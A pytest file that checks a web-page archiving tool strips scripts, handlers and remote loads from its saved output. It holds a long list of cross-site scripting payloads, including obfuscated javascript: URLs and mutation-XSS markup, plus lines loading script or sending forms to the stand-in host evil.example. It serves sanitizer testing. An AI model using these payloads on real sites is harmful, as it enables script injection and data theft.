# SPDX-License-Identifier: MIT
"""What leaves us is harmless: pages full of active content, in every format.

The vectors are ours, written after the classes of OWASP's lists: handlers,
script URLs in all spellings, elements that load or run, broken markup that
parsers mend into something else, SVG, MathML, CSS, and text that is markup.
"""
import html.parser
import itertools
import re
import zipfile

import pytest

from conftest import page

RUN = "window.ran=1"
HANDLERS = ("onerror onload onclick onmouseover onfocus onblur ontoggle "
            "onanimationstart onbegin onpageshow onpointerenter onwheel "
            "onbeforeinput oncut onhashchange ONERROR oNlOaD").split()
SCHEMES = ["javascript:" + RUN, "JaVaScRiPt:" + RUN, " javascript:" + RUN,
           "java\tscript:" + RUN, "java\nscript:" + RUN, "\x01javascript:" + RUN,
           "&#106;avascript:" + RUN, "&#x6A;avascript&colon;" + RUN,
           "javascript&#58;" + RUN, "vbscript:msgbox(1)", "livescript:" + RUN,
           "data:text/html,<script>" + RUN + "</script>",
           "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
           "data:image/svg+xml,<svg onload=" + RUN + ">", "view-source:x",
           "jar:http://a.example!/x", "feed:javascript:" + RUN, "blob:x"]
CARRIERS = ["<a href=\"{}\">word</a>", "<img src=\"{}\" alt=x>",
            "<iframe src=\"{}\"></iframe>",
            "<form action=\"{}\"><button>b</button></form>"]
ELEMENTS = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<script/x>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>", f"<svg/onload={RUN}>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={RUN}>#x\"></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href=\"javascript:{RUN}\">x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
    "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>", "<applet code=x.class></applet>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x>",
    "<link rel=preload as=script href=//evil.example/x>",
    "<link rel=import href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(//evil.example/x)}</style>",
    f"<div style=\"width:expression({RUN})\">x</div>",
    f"<div style=\"background:url(javascript:{RUN})\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<div style=\"position:fixed;inset:0;background:#fff\">x</div>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x",
    f"<video><source onerror={RUN}></video>", f"<video poster=javascript:{RUN}>",
    f"<audio src=x onerror={RUN}></audio>", f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>", f"<isindex action=javascript:{RUN}>",
    f"<button formaction=javascript:{RUN}>x</button>",
    "<form action=//evil.example/><input name=a></form>",
    "<textarea></textarea><script>window.ran=1</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    f"<!--><script>{RUN}</script>-->", f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml <img src=x onerror={RUN}>?>",
    f"<img src=x onerror={RUN}//", f"<img \"\"\"><script>{RUN}</script>\">",
    f"<img src='x' title='`><img src=x onerror={RUN}>'>",
    f"<a href=\"x\" title=\"&quot;><img src=x onerror={RUN}>\">x</a>",
    f"<p title='</title><script>{RUN}</script>'>x</p>",
    f"<figure><figcaption>&lt;script&gt;{RUN}&lt;/script&gt;</figcaption></figure>",
    f"<pre>&lt;img src=x onerror={RUN}&gt;</pre>",
    f"<img alt=\"--><script>{RUN}</script>\" src=x>",
    f"<table background=javascript:{RUN}><tr><td>x</table>",
    f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>",
    f"<portal src=javascript:{RUN}></portal>", f"<keygen autofocus onfocus={RUN}>",
    "<img srcset=\"javascript:window.ran=1 2x\" alt=x>",
    "<a ping=//evil.example/ href=//ok.example/>x</a>",
    "<a target=_blank href=//ok.example/>x</a>",
    "<img src=//evil.example/pixel.gif width=1 height=1>",
    "<p contenteditable onbeforeinput=window.ran=1>x</p>",
    "<dialog open onclose=window.ran=1>x</dialog>",
    "<custom-element onfocus=window.ran=1 tabindex=1 autofocus>x",
]
VECTORS = (
    [f"<img src=x {h}={RUN}>" for h in HANDLERS] +
    [f"<p {h}=\"{RUN}\">words</p>" for h in HANDLERS] +
    [c.format(s.replace('"', "&quot;"))
     for c, s in itertools.product(CARRIERS, SCHEMES)] + ELEMENTS)
TITLE = f"A title </title><script>{RUN}</script> \u202e \x1b[31m"
LOADS = {"script", "iframe", "object", "embed", "form", "frame", "frameset",
         "applet", "base", "input", "button", "textarea", "portal", "template",
         "noscript", "keygen", "animate", "set", "foreignobject", "use",
         "video", "audio", "source"}
URLS = {"href", "src", "action", "formaction", "xlink:href", "poster", "data",
        "background", "srcset", "cite", "longdesc", "ping"}


class Judge(html.parser.HTMLParser):
    """Finds what could run or load."""

    def __init__(self, text, where):
        super().__init__()
        self.faults, self.where = [], where
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        names = dict(attributes)
        if tag in LOADS:
            self.faults.append(f"<{tag}>")
        if tag == "meta" and names.get("http-equiv", "").lower() not in (
                "", "content-security-policy"):
            self.faults.append(str(attributes))
        if tag == "link" and not re.fullmatch(
                r"(\.\./)?style\.css|data:.*", names.get("href") or ""):
            self.faults.append(str(attributes))
        for name, value in attributes:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("style", "srcdoc", "ping"):
                self.faults.append(f"{tag} {name}")
            if name in URLS and re.match(
                    r"(java|vb|live)script:|data:text|data:image/svg|"
                    r"feed:|blob:|jar:|view-source:", value):
                self.faults.append(f"{tag} {name}={value[:60]}")
            if tag == "img" and name == "src" and "//" in value:
                self.faults.append(f"loads {value[:60]}")

    handle_startendtag = handle_starttag


def paragraphs(vectors):
    """Each in its own block: what one breaks does not hide the next."""
    return "".join(f"<div>{v}</div>\n<p>These are words between two.</p>\n"
                   for v in vectors)


def texts_of(path):
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as packed:
            return {n: packed.read(n).decode() for n in packed.namelist()
                    if n.endswith((".html", ".xhtml"))}
    return {path.name: path.read_text()}


def test_there_are_enough():
    assert len(set(VECTORS)) >= 120


@pytest.mark.parametrize("format", ["zip", "epub", "html"])
def test_nothing_active_is_left(offprint, server, format):
    server.add("/a", page(TITLE, body=paragraphs(VECTORS)))
    path = offprint.folder / f"a.{format}"
    run = offprint("get", "--delay", "0", "--retry", "0", "-f", format, "-o",
                   path, server.url("/a"))
    assert run.status in (0, 9), run.err
    assert "\x1b" not in run.err + run.out.decode()
    for name, text in texts_of(path).items():
        assert Judge(text, name).faults == [], name
        assert "Content-Security-Policy" in text or format == "epub"


@pytest.mark.parametrize("vector", range(len(VECTORS)))
def test_each_alone_is_harmless(offprint, tmp_path, vector):
    """Alone, for what one does to the markup around it."""
    file = tmp_path / "page.html"
    file.write_text(page("Plain", body=VECTORS[vector]))
    for format in ("html", "xhtml"):
        out = offprint("extract", "--no-sandbox", "--format", format, file).out
        assert Judge(out.decode(), format).faults == [], VECTORS[vector]


@pytest.mark.parametrize("format", ["markdown", "text", "json"])
def test_texts_hold_no_script_links(offprint, tmp_path, format):
    file = tmp_path / "page.html"
    file.write_text(page("Plain", body=paragraphs(VECTORS)))
    out = offprint("extract", "--format", format, file).out.decode()
    assert not re.search(r"\]\(\s*<?(java|vb|live)script:", out, re.I)
    assert not re.search(r"(?<!\\)<(script|iframe|svg)\b(?!&)", re.sub(
        r"`[^`]*`", "", out), re.I) or format != "markdown"


def test_the_judge_sees_what_is_active():
    seen = [bool(Judge(vector, "as sent").faults) for vector in VECTORS]
    assert sum(seen) >= 0.9 * len(VECTORS)
